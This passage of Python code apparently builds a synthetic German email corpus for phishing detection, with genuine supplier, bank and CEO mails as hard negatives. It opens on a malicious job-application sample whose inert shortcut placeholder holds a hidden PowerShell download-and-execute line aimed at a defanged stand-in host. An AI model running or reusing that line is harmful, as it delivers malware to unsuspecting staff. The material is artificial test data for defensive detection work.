            'mit großem Interesse habe ich Ihre Stellenausschreibung „Sachbearbeiter Personal (m/w/d)“ auf StepStone gelesen '
            'und bewerbe mich hiermit um die Stelle.\n\n'
            'Ich bin ausgebildete Kauffrau für Büromanagement und arbeite seit vier Jahren in der Personalabteilung eines '
            'Logistikunternehmens in Bremen, wo ich unter anderem die Entgeltabrechnung mit DATEV LODAS vorbereite und '
            'Bewerbermanagement betreue.\n\n'
            'Meine vollständigen Unterlagen (Anschreiben, Lebenslauf und Zeugnisse) finden Sie im Anhang. Da die Datei '
            'persönliche Daten enthält, habe ich sie mit einem Passwort geschützt: %s\n\n'
            'Über eine Einladung zu einem persönlichen Gespräch freue ich mich sehr.\n\n'
            'Mit freundlichen Grüßen\nJulia Kaiser\n' % pw)
    cover = docs.build(m, [('b', 'Julia Kaiser'), ('small', 'Bremen · julia.kaiser.bewerbung@web.de'), ('sp', 20),
                           ('p', 'Bewerbung als Sachbearbeiterin Personal (m/w/d)'), ('sp', 10),
                           ('p', 'Sehr geehrte Frau Schröder,'), ('sp', 4),
                           ('p', 'mit großem Interesse habe ich Ihre Stellenausschreibung gelesen. Den vollständigen '
                                 'Lebenslauf sowie meine Arbeitszeugnisse finden Sie in der beigefügten Datei.'),
                           ('sp', 10), ('p', 'Mit freundlichen Grüßen'), ('p', 'Julia Kaiser')],
                       'Microsoft® Word für Microsoft 365', 'Microsoft® Word für Microsoft 365', 'Anschreiben', 'Julia', when(2026, 11, 30, 21, 2, 0))[0]
    lnk = ('[inert placeholder for a Windows shortcut (.lnk)]\r\n'
           'Icon: %SystemRoot%\\System32\\imageres.dll,-102 (PDF-like)\r\n'
           'Target: C:\\Windows\\System32\\conhost.exe --headless powershell -nop -w hidden -c "irm hxxps://bewerbung-unterlagen[.]com/cv/jk | iex"\r\n').encode()
    z = office.zip_encrypted([('Bewerbung_Julia_Kaiser/Anschreiben_Julia_Kaiser.pdf', cover, (2026, 11, 30, 21, 4, 10)),
                              ('Bewerbung_Julia_Kaiser/Lebenslauf_und_Zeugnisse_Julia_Kaiser.pdf.lnk', lnk, (2026, 11, 30, 21, 6, 52))], pw, r)
    m.meta['zip_passwords'] = [pw]
    html = ('<!DOCTYPE html><html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>'
            + ''.join('<div>%s</div>' % (B.esc(l) if l else '&nbsp;') for l in text.split('\n'))
            + '</div></div></body></html>\n')
    m.root = Multi('mixed', [Multi('alternative', [Leaf('text/plain', text, 'UTF-8', 'quoted-printable'),
                                                   Leaf('text/html', html, 'UTF-8', 'quoted-printable')], 'abmob-' + uuid4(r)),
                             att(m, z, 'application/zip', 'Bewerbungsunterlagen_Julia_Kaiser.zip', 'plain')], 'abmob-' + uuid4(r))
    c = dict(frm=frm, to=[anja], subject='Bewerbung als Sachbearbeiterin Personal (m/w/d) – Ihre Anzeige auf StepStone',
             date=t, hcs='UTF-8', hmode='Q')
    X.webde(m, c, 'web.de', '185.213.154.90', mua='webmail')
    m.describe('Malware loader disguised as a job application to HR: free-mail sender, password-protected ZIP (password in the '
               'body) containing a decoy cover letter PDF and a ".pdf.lnk" shortcut (represented here by an inert text file).',
               'Encrypted archive defeats scanning; double extension .pdf.lnk; password in the same mail; generic text; '
               'web.de webmail from a VPN exit. Genuine application: business/08.')


# =====================================================================================
# BUSINESS
# =====================================================================================
@msg('business', '01-de-ceo-anzahlung-sonderkontingent-intern.eml')
def b01(m):
    t = when(2026, 10, 21, 7, 48, 5)
    text = ('Moin Katrin,\n\n'
            'Frank hat gestern Abend mit Nordic Marine Proteins das Sonderkontingent Lachsmehl (120 t, Lieferung KW 47/48) '
            'fest gemacht – damit ist die Grain-free-Rezeptur für PetPoint bis Februar abgesichert. NMP will wegen der '
            'knappen Fangquote 30 % Anzahlung bis Freitag, sonst geht die Menge an den nächsten Interessenten.\n\n'
            'Die Bestellung ist in SAP angelegt (4500187233, Anzahlungsanforderung 54.720,00 EUR) und von mir freigegeben. '
            'Bitte lass die Zahlung ganz normal über den Zahllauf laufen – Bankverbindung aus dem Kreditorenstamm, Jörg macht '
            'die zweite Freigabe. Den Vertrag hat Frank in DocuWare abgelegt.\n\n'
            'Ich bin ab 10 Uhr im Werk Posen, mobil aber erreichbar.\n\n'
            'Danke dir!\nMatthias\n\n' + sig_eg('Matthias'))
    m.root = B.alt(m, text, B.outlook_html(text, 'de', 'windows-1252'), 'windows-1252', 'quoted-printable', bnd=B.bnd_exchange(m))
    c = dict(frm=S('Matthias'), to=[S('Katrin')], cc=[S('Frank'), S('Jörg')],
             subject='Anzahlung Sonderkontingent Lachsmehl NMP – bis Freitag', date=t, hcs='windows-1252', hmode='Q')
    X.exchange_internal(m, c, client_ip='10.20.14.23', importance='high')
    m.describe('Real urgent CEO request, internal: the CEO asks the CFO to pay a 30 % advance for a salmon-meal contingent '
               'by Friday – through the normal payment run with the supplier\'s master-data bank account and a second approval.',
               'Internal Exchange route via mail-int01; real addresses; references SAP PO and DocuWare; explicitly keeps '
               'four-eyes principle and master-data bank details.', hardneg='01-de-ceo-vertrauliche-uebernahme.eml',
               phones=['+49 4231 98870-100'])


# =====================================================================================
@msg('business', '02-de-lieferant-bankwechsel-mit-rueckrufbitte.eml')
def b02(m):
    r = m.rng
    t = when(2026, 11, 10, 9, 14, 33)
    frm = ('Lieferant GmbH Buchhaltung', 'rechnungen@lieferant-gmbh.de')
    body = ('Sehr geehrte Damen und Herren,\n\n'
            'durch die Fusion der Volksbank Cloppenburg eG mit der Oldenburger Landesbank ändert sich zum 01.12.2026 unsere '
            'Bankverbindung. Das neue Konto lautet ebenfalls auf Lieferant GmbH; bis zum 31.01.2027 werden Zahlungen auf das '
            'bisherige Konto automatisch weitergeleitet.\n\n'
            'Bisher: IBAN %s\nNeu ab 01.12.2026: IBAN %s, BIC OLBODEH2XXX\n\n'
            'Das Schreiben unserer Geschäftsführung mit beiden Unterschriften haben wir Ihnen zusätzlich per Post gesandt; eine '
            'Kopie liegt bei.\n\n'
            'Bitte ändern Sie die Bankverbindung in Ihrem System erst, nachdem Sie sie telefonisch bei uns bestätigt haben – '
            'unter der Ihnen bekannten Rufnummer unserer Buchhaltung, 04471 9388-30 (Frau Tebben). Wir werden Sie niemals per '
            'E-Mail zu einer kurzfristigen Änderung drängen oder darum bitten, Rechnungen vorzeitig auf ein neues Konto zu zahlen.\n\n'
            % (ids.fmt_iban(C.LIEF_IBAN_OLD), ids.fmt_iban(C.LIEF_IBAN_NEW))) + sig_lief('Buchhaltung')
    html = B.outlook_html(body, 'de', 'windows-1252')
    pdfb, _ = docs.build(m, [
        ('addr', ['Example Group Heimtiernahrung GmbH', 'Buchhaltung / Kreditoren', 'Industriestraße 14', '27283 Verden (Aller)'],
         [('Datum', '09.11.2026'), ('Kunden-Nr.', '10088'), ('Ansprechpartner', 'Monika Tebben')]),
        ('sp', 18), ('h2', 'Änderung unserer Bankverbindung zum 01.12.2026'), ('sp', 8),
        ('p', 'Sehr geehrte Damen und Herren,'), ('sp', 4),
        ('p', 'aufgrund der Verschmelzung der Volksbank Cloppenburg eG auf die Oldenburgische Landesbank AG ändert sich zum '
              '01.12.2026 unsere Bankverbindung. Kontoinhaber bleibt unverändert die Lieferant GmbH.'), ('sp', 6),
        ('table', ['', 'bisher', 'ab 01.12.2026'], [['Bank', 'Volksbank Cloppenburg eG', 'Oldenburgische Landesbank AG'],
                                                   ['IBAN', ids.fmt_iban(C.LIEF_IBAN_OLD), ids.fmt_iban(C.LIEF_IBAN_NEW)],
                                                   ['BIC', 'GENODEF1CLP', 'OLBODEH2XXX']], [1.2, 3, 3]),
        ('sp', 8),
        ('p', 'Zahlungen auf die bisherige Verbindung werden bis zum 31.01.2027 automatisch weitergeleitet. Bitte bestätigen Sie '
              'die Änderung vor der Umstellung telefonisch unter der Ihnen bekannten Rufnummer unserer Buchhaltung.'), ('sp', 14),
        ('p', 'Mit freundlichen Grüßen'), ('sp', 20),
        ('table', ['Hermann Lübbers', 'Dr. Anke Wessels'], [['Geschäftsführer', 'Geschäftsführerin']], [1, 1]),
    ], 'Microsoft® Word 2021', 'Microsoft® Word 2021', 'Änderung Bankverbindung', 'Tebben, Monika', when(2026, 11, 9, 15, 2, 11),
        header=docs.letterhead('Lieferant GmbH', ['Proteine & Fette für die Heimtiernahrung · Am Industriehafen 7 · 49661 Cloppenburg'],
                               (0.55, 0.12, 0.1), ['Tel. +49 4471 9388-0', 'www.lieferant-gmbh.de']),
        footer=docs.footer_lines([LIEF_FOOTER.replace('\n', ' · ')]))
    m.root = Multi('mixed', [B.alt(m, body, html, 'windows-1252', 'quoted-printable', bnd=B.bnd_generic(m), quote=True),
                             att(m, pdfb, 'application/pdf', 'Schreiben_Bankverbindung_2026-11-09.pdf', 'outlook', t)],
                   B.bnd_generic(m))
    c = dict(frm=frm, to=[S('Sabine')], cc=[S('Jörg')],
             subject='Änderung unserer Bankverbindung zum 01.12.2026 – bitte telefonisch bestätigen', date=t,
             hcs='windows-1252', hmode='Q', content_language='de')
    X.postfix_company(m, c, LIEF_HOST, LIEF_IP, ('PC-BUCH02.lieferant.local', 'unknown', '192.168.10.31'))
    m.describe('Genuine supplier bank-detail change done properly: Lieferant GmbH\'s accounts department announces a new IBAN '
               '(bank merger) weeks ahead, old account forwarded, letter signed by both directors also by post, and asks to '
               'verify by phone at the known number before changing anything.',
               'Real domain and relay (SPF/DKIM/DMARC pass), consistent with earlier invoices, no urgency, call-back '
               'verification requested.', hardneg='02-de-lieferant-bankverbindung-lookalike.eml',
               ibans=[C.LIEF_IBAN_OLD, C.LIEF_IBAN_NEW], phones=['04471 9388-30', '+49 4471 9388-0', '+49 4471 9388-30', '+49 4471 9388-99'])


# =====================================================================================
@msg('business', '03-de-lieferant-rechnung-girocode-xrechnung.eml')
def b03(m):
    r = m.rng
    t = when(2026, 11, 12, 14, 2, 51)
    net1, net2 = 24.48 * 1085.00, 8.22 * 1240.00
    net = round(net1 + net2, 2)
    vat = round(net * 0.07, 2)
    gross = round(net + vat, 2)
    epc = 'BCD\n002\n1\nSCT\nGENODEF1CLP\nLieferant GmbH\n%s\nEUR%.2f\n\n\nRE-2026-10518 Kd-Nr 10088' % (C.LIEF_IBAN_OLD, gross)
    mny = lambda v: docs.money(v, 'de')
    pdfb, _ = docs.build(m, [
        ('addr', ['Example Group Heimtiernahrung GmbH', 'Kreditorenbuchhaltung', 'Industriestraße 14', '27283 Verden (Aller)'],
         [('Rechnungs-Nr.', 'RE-2026-10518'), ('Datum', '12.11.2026'), ('Kunden-Nr.', '10088'), ('Ihre Bestell-Nr.', '4500187102'),
          ('Lieferschein', '80044391 / 80044398'), ('Leistungsdatum', '10.11.2026')]),
        ('sp', 12), ('h', 'Rechnung'), ('sp', 4),
        ('table', ['Pos.', 'Artikel', 'Menge', 'Einheit', 'Preis/t', 'Betrag EUR'],
         [['1', 'Geflügelmehl 65 % Rohprotein, Kat.-3-Material, lose im Silo-LKW (Zul.-Nr. DE NI 1-04-0211)', '24,480', 't', mny(1085.00), mny(net1)],
          ['2', 'Geflügelfett, stabilisiert (Tocopherole), Tankzug', '8,220', 't', mny(1240.00), mny(net2)]],
         [0.6, 5, 1.1, 0.9, 1.3, 1.5], ['l', 'l', 'r', 'l', 'r', 'r']),
        ('totals', [('Nettobetrag', mny(net) + ' EUR', False), ('USt. 7 %', mny(vat) + ' EUR', False), ('Rechnungsbetrag', mny(gross) + ' EUR', True)]),
        ('sp', 6), ('p', 'Zahlbar bis 12.12.2026 ohne Abzug. Bei Zahlung bis 22.11.2026 gewähren wir 2 % Skonto.'), ('sp', 4),
        ('kv', [('Bankverbindung', 'Volksbank Cloppenburg eG'), ('IBAN', ids.fmt_iban(C.LIEF_IBAN_OLD)), ('BIC', 'GENODEF1CLP')]),
        ('sp', 6), ('qr', epc, 84, 'Bequem bezahlen mit GiroCode – scannen Sie den Code mit Ihrer Banking-App.'),
        ('small', 'Die elektronische Rechnung im Format XRechnung 3.0 (UBL) ist dieser E-Mail beigefügt; maßgeblich ist der '
                  'strukturierte Datensatz.'),
    ], 'DATEV Rechnungsschreibung', 'DATEV Rechnungsschreibung', 'Rechnung RE-2026-10518', 'Lieferant GmbH', t - TD(minutes=6),
        header=docs.letterhead('Lieferant GmbH', ['Proteine & Fette für die Heimtiernahrung · Am Industriehafen 7 · 49661 Cloppenburg'],
                               (0.55, 0.12, 0.1), ['Tel. +49 4471 9388-0', 'www.lieferant-gmbh.de']),
        footer=docs.footer_lines([LIEF_FOOTER.replace('\n', ' · ')], 'Seite %d'))
    xml = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<ubl:Invoice xmlns:ubl="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"\n'
           '  xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"\n'
           '  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">\n'
           '  <cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</cbc:CustomizationID>\n'
           '  <cbc:ProfileID>urn:fdc:peppol.eu:2017:poacc:billing:01:1.0</cbc:ProfileID>\n'
           '  <cbc:ID>RE-2026-10518</cbc:ID>\n  <cbc:IssueDate>2026-11-12</cbc:IssueDate>\n  <cbc:DueDate>2026-12-12</cbc:DueDate>\n'
           '  <cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>\n  <cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>\n'
           '  <cbc:BuyerReference>4500187102</cbc:BuyerReference>\n'
           '  <cac:AccountingSupplierParty><cac:Party><cbc:EndpointID schemeID="EM">rechnungen@lieferant-gmbh.de</cbc:EndpointID>\n'
           '    <cac:PostalAddress><cbc:StreetName>Am Industriehafen 7</cbc:StreetName><cbc:CityName>Cloppenburg</cbc:CityName><cbc:PostalZone>49661</cbc:PostalZone><cac:Country><cbc:IdentificationCode>DE</cbc:IdentificationCode></cac:Country></cac:PostalAddress>\n'
           '    <cac:PartyTaxScheme><cbc:CompanyID>DE118472639</cbc:CompanyID><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:PartyTaxScheme>\n'
           '    <cac:PartyLegalEntity><cbc:RegistrationName>Lieferant GmbH</cbc:RegistrationName><cbc:CompanyID>HRB 112874</cbc:CompanyID></cac:PartyLegalEntity>\n'
           '    <cac:Contact><cbc:Name>Monika Tebben</cbc:Name><cbc:Telephone>+49 4471 9388-30</cbc:Telephone><cbc:ElectronicMail>rechnungen@lieferant-gmbh.de</cbc:ElectronicMail></cac:Contact>\n'
           '  </cac:Party></cac:AccountingSupplierParty>\n'
           '  <cac:AccountingCustomerParty><cac:Party><cbc:EndpointID schemeID="EM">rechnungseingang@example.com</cbc:EndpointID>\n'
           '    <cac:PostalAddress><cbc:StreetName>Industriestraße 14</cbc:StreetName><cbc:CityName>Verden (Aller)</cbc:CityName><cbc:PostalZone>27283</cbc:PostalZone><cac:Country><cbc:IdentificationCode>DE</cbc:IdentificationCode></cac:Country></cac:PostalAddress>\n'
           '    <cac:PartyTaxScheme><cbc:CompanyID>DE294817367</cbc:CompanyID><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:PartyTaxScheme>\n'
           '    <cac:PartyLegalEntity><cbc:RegistrationName>Example Group Heimtiernahrung GmbH</cbc:RegistrationName></cac:PartyLegalEntity>\n'
           '  </cac:Party></cac:AccountingCustomerParty>\n'
           '  <cac:Delivery><cbc:ActualDeliveryDate>2026-11-10</cbc:ActualDeliveryDate></cac:Delivery>\n'
           '  <cac:PaymentMeans><cbc:PaymentMeansCode>58</cbc:PaymentMeansCode><cbc:PaymentID>RE-2026-10518</cbc:PaymentID>\n'
           '    <cac:PayeeFinancialAccount><cbc:ID>%s</cbc:ID><cbc:Name>Lieferant GmbH</cbc:Name><cac:FinancialInstitutionBranch><cbc:ID>GENODEF1CLP</cbc:ID></cac:FinancialInstitutionBranch></cac:PayeeFinancialAccount>\n'
           '  </cac:PaymentMeans>\n'
           '  <cac:PaymentTerms><cbc:Note>#SKONTO#TAGE=10#PROZENT=2.00#\n</cbc:Note></cac:PaymentTerms>\n'
           '  <cac:TaxTotal><cbc:TaxAmount currencyID="EUR">%.2f</cbc:TaxAmount>\n'
           '    <cac:TaxSubtotal><cbc:TaxableAmount currencyID="EUR">%.2f</cbc:TaxableAmount><cbc:TaxAmount currencyID="EUR">%.2f</cbc:TaxAmount>\n'
           '      <cac:TaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>7</cbc:Percent><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:TaxCategory></cac:TaxSubtotal></cac:TaxTotal>\n'
           '  <cac:LegalMonetaryTotal><cbc:LineExtensionAmount currencyID="EUR">%.2f</cbc:LineExtensionAmount><cbc:TaxExclusiveAmount currencyID="EUR">%.2f</cbc:TaxExclusiveAmount>'
           '<cbc:TaxInclusiveAmount currencyID="EUR">%.2f</cbc:TaxInclusiveAmount><cbc:PayableAmount currencyID="EUR">%.2f</cbc:PayableAmount></cac:LegalMonetaryTotal>\n'
           '  <cac:InvoiceLine><cbc:ID>1</cbc:ID><cbc:InvoicedQuantity unitCode="TNE">24.480</cbc:InvoicedQuantity><cbc:LineExtensionAmount currencyID="EUR">%.2f</cbc:LineExtensionAmount>\n'
           '    <cac:Item><cbc:Name>Geflügelmehl 65 %% Rohprotein, Kat. 3, lose</cbc:Name><cac:ClassifiedTaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>7</cbc:Percent><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:ClassifiedTaxCategory></cac:Item>\n'
           '    <cac:Price><cbc:PriceAmount currencyID="EUR">1085.00</cbc:PriceAmount></cac:Price></cac:InvoiceLine>\n'
           '  <cac:InvoiceLine><cbc:ID>2</cbc:ID><cbc:InvoicedQuantity unitCode="TNE">8.220</cbc:InvoicedQuantity><cbc:LineExtensionAmount currencyID="EUR">%.2f</cbc:LineExtensionAmount>\n'
           '    <cac:Item><cbc:Name>Geflügelfett, stabilisiert</cbc:Name><cac:ClassifiedTaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>7</cbc:Percent><cac:TaxScheme><cbc:ID>VAT</cbc:ID></cac:TaxScheme></cac:ClassifiedTaxCategory></cac:Item>\n'
           '    <cac:Price><cbc:PriceAmount currencyID="EUR">1240.00</cbc:PriceAmount></cac:Price></cac:InvoiceLine>\n'
           '</ubl:Invoice>\n' % (C.LIEF_IBAN_OLD, vat, net, vat, net, net, gross, gross, round(net1, 2), round(net2, 2)))
    body = ('Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung RE-2026-10518 zu Ihrer Bestellung 4500187102 '
            '(Lieferungen vom 10.11.2026) als PDF sowie als XRechnung.\n\nBei Rückfragen erreichen Sie uns unter '
            '04471 9388-30.\n\n') + sig_lief('Buchhaltung')
    m.root = Multi('mixed', [Leaf('text/plain', body, 'iso-8859-15', '8bit', ct_quote=False),
                             att(m, pdfb, 'application/pdf', 'RE-2026-10518.pdf', 'thunderbird'),
                             att(m, xml.encode('utf-8'), 'application/xml', 'RE-2026-10518_xrechnung.xml', 'thunderbird')],
                   B.bnd_tb(m))
    c = dict(frm=('Lieferant GmbH Buchhaltung', 'rechnungen@lieferant-gmbh.de'), to=[('Rechnungseingang Example Group', 'rechnungseingang@example.com')],
             cc=[S('Sabine')], subject='Rechnung RE-2026-10518 zu Bestellung 4500187102', date=t, hcs='iso-8859-15', hmode='Q')
    X.postfix_company(m, c, LIEF_HOST, LIEF_IP, ('[192.168.10.31]', 'unknown', '192.168.10.31'), mua='thunderbird',
                      rcpt='rechnungseingang@example.com')
    m.describe('Genuine supplier invoice: PDF with EPC/GiroCode QR (old, still valid account) plus XRechnung 3.0 UBL file, '
               'sent by Thunderbird through the supplier\'s own relay.',
               'Real domain and relay; invoice number, PO, delivery notes and amounts consistent; QR payload matches the '
               'printed IBAN and amount.', hardneg='06-de-registereintrag-zahlungsaufforderung.eml',
               ibans=[C.LIEF_IBAN_OLD], phones=['04471 9388-30', '+49 4471 9388-0', '+49 4471 9388-30', '+49 4471 9388-99'])


# =====================================================================================
@msg('business', '04-de-petpoint-portal-ausschreibung-eigenmarke.eml')
def b04(m):
    r = m.rng
    t = when(2026, 11, 13, 7, 30, 12)
    nina = S('Nina')

    def tr():
        return 'https://url4417.petpoint-handel.de/ls/click?upn=u001.%s' % b64s(r, 90).replace('+', '-').replace('/', '_').rstrip('=')
    l1, l2, l3 = tr(), tr(), tr()
    html = ('<!DOCTYPE html>\n<html lang="de"><head><meta charset="utf-8"><title>PetPoint Lieferantenportal</title></head>\n'
            '<body style="margin:0;background:#eef1f3;font-family:Arial,Helvetica,sans-serif;color:#1d2a33">\n'
            '<table role="presentation" width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 10px">\n'
            '<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">\n'
            '<tr><td style="background:#00594f;padding:16px 24px;color:#fff;font-size:19px;font-weight:bold">PetPoint '
            '<span style="font-weight:normal;font-size:13px">| Lieferantenportal</span></td></tr>\n'
            '<tr><td style="padding:24px;font-size:14px;line-height:20px">\n'
            '<p>Guten Tag Frau Albers,</p>\n'
            '<p>für Ihr Unternehmen <b>Example Group Heimtiernahrung GmbH</b> (Lieferanten-Nr. 100884) wurde eine neue '
            'Ausschreibung freigegeben:</p>\n'
            '<table role="presentation" cellpadding="6" cellspacing="0" style="font-size:13px;background:#f6f8f9;width:100%%">\n'
            '<tr><td>Ausschreibung</td><td><b>EM-2027-NF-014</b></td></tr>\n'
            '<tr><td>Titel</td><td>Eigenmarke „PetPoint Natura“ Nassfutter Katze, 85 g Pouch, 12 Sorten</td></tr>\n'
            '<tr><td>Volumen</td><td>ca. 14,2 Mio. Pouches p. a. (Vertragslaufzeit 01.04.2027 – 31.03.2029)</td></tr>\n'
            '<tr><td>Fragen bis</td><td>24.11.2026, 12:00 Uhr</td></tr>\n'
            '<tr><td>Angebotsfrist</td><td>04.12.2026, 12:00 Uhr</td></tr>\n'
            '<tr><td>Ansprechpartnerin</td><td>Jana Ohlsen, Category Management Katze</td></tr></table>\n'
            '<p>Die Ausschreibungsunterlagen (Leistungsverzeichnis, Spezifikationen, Verpackungsvorgaben, Mustervertrag) '
            'finden Sie im Portal unter <i>Ausschreibungen &gt; Offen</i>.</p>\n'
            '<p style="margin:22px 0"><a href="%s" style="background:#00594f;color:#fff;text-decoration:none;padding:10px 22px;'
            'font-weight:bold">Zur Ausschreibung</a></p>\n'
            '<p style="font-size:12px;color:#5b6770">Sie melden sich wie gewohnt mit Ihrer Portal-Kennung und dem zweiten Faktor '
            '(Authenticator-App) an. PetPoint fragt niemals per E-Mail nach Passwörtern, Bankdaten oder Codes. '
            'Änderungen Ihrer Bankverbindung nehmen Sie ausschließlich im Portal unter <i>Stammdaten</i> vor; sie werden '
            'erst nach telefonischer Rückbestätigung durch unsere Kreditorenbuchhaltung wirksam.</p>\n'
            '<p>Freundliche Grüße<br>PetPoint Lieferantenmanagement</p>\n</td></tr>\n'
            '<tr><td style="padding:14px 24px;font-size:11px;color:#7b8790;border-top:1px solid #e3e7ea">'
            '<a href="%s" style="color:#7b8790">Benachrichtigungseinstellungen</a> · <a href="%s" style="color:#7b8790">Datenschutz</a><br>'
            'PetPoint Handels GmbH &amp; Co. KG · Süderstraße 284 · 20537 Hamburg · Amtsgericht Hamburg HRA 121947 · '
            'USt-IdNr. DE812643906</td></tr>\n</table></td></tr></table>\n'
            '<img src="https://url4417.petpoint-handel.de/wf/open?upn=u001.%s" alt="" width="1" height="1" border="0" '
            'style="height:1px !important;width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important"/>\n'
            '</body></html>\n' % (l1, l2, l3, b64s(r, 60).replace('+', '-').replace('/', '_').rstrip('=')))
    plain = B.html_to_text(html).replace('Zur Ausschreibung', 'Zur Ausschreibung: %s' % l1)
    m.root = Multi('alternative', [Leaf('text/plain', plain, 'utf-8', 'quoted-printable', ct_quote=False),
                                   Leaf('text/html', html, 'utf-8', 'quoted-printable', ct_quote=False)], hexs(r, 60), quote=True)
    c = dict(frm=('PetPoint Lieferantenportal', 'noreply@lieferantenportal.petpoint-handel.de'), to=[nina],
             reply_to=[('Jana Ohlsen', 'jana.ohlsen@petpoint-handel.de')],
             subject='Neue Ausschreibung EM-2027-NF-014: Eigenmarke Nassfutter Katze 85 g – Angebotsfrist 04.12.2026',
             date=t, hcs='UTF-8', hmode='B')
    X.sendgrid(m, c, 'petpoint-handel.de', 'em4417', host=('o1.ptr4417.petpoint-handel.de', '149.72.154.83'), dmarc_policy='quarantine')
    m.describe('Genuine customer tender notification from the PetPoint supplier portal (SendGrid with the customer\'s own '
               'authenticated domain and click tracking on url4417.petpoint-handel.de).',
               'Real customer domain, DKIM aligned, DMARC pass; asks to log in "as usual" without credentials in mail; explicitly '
               'states bank changes only in the portal with call-back.', hardneg='04-de-petpoint-lieferantenportal-phishing.eml')


# =====================================================================================
@msg('business', '05-de-bank-neue-nachricht-postfach.eml')
def b05(m):
    r = m.rng
    t = when(2026, 11, 2, 6, 12, 48)
    html = ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
            '<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-15" />'
            '<title>Weser-Ems Bank eG</title></head>\n<body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#000">\n'
            '<table width="640" cellpadding="0" cellspacing="0" border="0">\n'
            '<tr><td style="border-bottom:2px solid #0066b3;padding:10px 0;font-size:18px;color:#0066b3"><b>Weser-Ems Bank eG</b></td></tr>\n'
            '<tr><td style="padding:16px 0">\n<p>Sehr geehrte Damen und Herren,</p>\n'
            '<p>in Ihrem elektronischen Postfach in WEB Firmenkunden Online liegen neue Dokumente für Sie bereit:</p>\n'
            '<ul><li>Kontoauszug Nr. 10/2026 zu Konto ...1190 (Geschäftskonto)</li>\n'
            '<li>Rechnungsabschluss 3. Quartal 2026</li>\n<li>Information: Änderung Preis- und Leistungsverzeichnis zum 01.01.2027</li></ul>\n'
            '<p>Bitte melden Sie sich wie gewohnt über unsere Internetseite <b>www.weser-ems-bank.de</b> oder die App '
            '&quot;VR Banking Business&quot; an. Aus Sicherheitsgründen enthält diese Benachrichtigung keine Links zur Anmeldung und '
            'keine Anhänge.</p>\n'
            '<p>Wir fordern Sie niemals per E-Mail, SMS oder Telefon auf, Zugangsdaten, TANs oder Freigaben in SecureGo plus '
            'zu bestätigen. Anfragen dieser Art leiten Sie bitte an Ihre Beraterin oder an <b>05 41 / 9 38 72-0</b> weiter.</p>\n'
            '<p>Mit freundlichen Grüßen<br />Ihre Weser-Ems Bank eG</p>\n</td></tr>\n'
            '<tr><td style="font-size:10px;color:#666;border-top:1px solid #ccc;padding-top:8px">Diese E-Mail wurde automatisch '
            'erzeugt. Weser-Ems Bank eG, Vorstand: Dr. Carsten Ahlers, Birgit Meyerholz, Aufsichtsratsvorsitzender: Gerd Thole, '
            'Sitz Oldenburg, Registergericht Oldenburg GnR 150211. Datenschutzhinweise: www.weser-ems-bank.de/datenschutz</td></tr>\n'
            '</table>\n</body></html>\n')
    plain = B.html_to_text(html)
    m.root = B.alt(m, plain, html, 'ISO-8859-15', 'quoted-printable', bnd=B.bnd_java(m), ct_quote=False)
    c = dict(frm=('Weser-Ems Bank eG', 'service@firmenkunden.weser-ems-bank.de'), to=[S('Jörg')],
             subject='Neue Dokumente in Ihrem elektronischen Postfach', date=t, date_z='CET', date_style='abbr', hcs='ISO-8859-15', hmode='Q',
             msgid='<%d.%d.%d@mailout.weser-ems-bank.de>' % (r.randint(10 ** 8, 10 ** 9), r.randint(1000, 9999), X.ts(t) * 1000))
    X.generic_relay(m, c, 'mailout.weser-ems-bank.de', '198.51.100.73',
                    dkims=[('firmenkunden.weser-ems-bank.de', 'atr2025', 'from:to:subject:date:message-id:content-type:mime-version')],
                    mail_from='bounce-fk@firmenkunden.weser-ems-bank.de', dmarc_policy='reject',
                    order=['Date', 'From', 'To', 'Message-ID', 'Subject', 'MV', 'MIMEONLY', ('X-Mailer', 'Atruvia Notify 4.2')])
    m.describe('Genuine house-bank notification: new statements in the electronic mailbox of the business banking portal; '
               'deliberately without login links or attachments.',
               'Bank\'s real domain and relay, DKIM/DMARC pass; no link, no request for codes; explicit anti-phishing note.',
               hardneg='05-de-bank-securego-qr-pdf.eml', phones=['05 41 / 9 38 72-0'])


# =====================================================================================
@msg('business', '06-de-steuerberater-mandanteninfo-newsletter.eml')
def b06(m):
    r = m.rng
    t = when(2026, 12, 3, 10, 0, 3)

    def cr(path):
        return 'https://hansenpartner.eu.crsend.com/c.php?%d&%s&%s&%s' % (r.randint(10 ** 8, 10 ** 9), hexs(r, 12), hexs(r, 10), path)
    items = [('E-Rechnung: Ab 01.01.2027 Pflicht zum Versand für Unternehmen mit mehr als 800.000 EUR Umsatz',
              'Nach der Empfangspflicht seit 2025 müssen größere Unternehmen ab 2027 E-Rechnungen im Format XRechnung oder '
              'ZUGFeRD versenden. Wir zeigen, was Sie jetzt in Ihrer Fakturierung prüfen sollten.', 'e-rechnung-2027'),
             ('Inventur zum Geschäftsjahresende: Checkliste für Produktionsbetriebe',
              'Stichtagsinventur, permanente Inventur, Bewertung von Roh-, Hilfs- und Betriebsstoffen – unsere Checkliste für '
              'das Jahresende.', 'inventur-checkliste'),
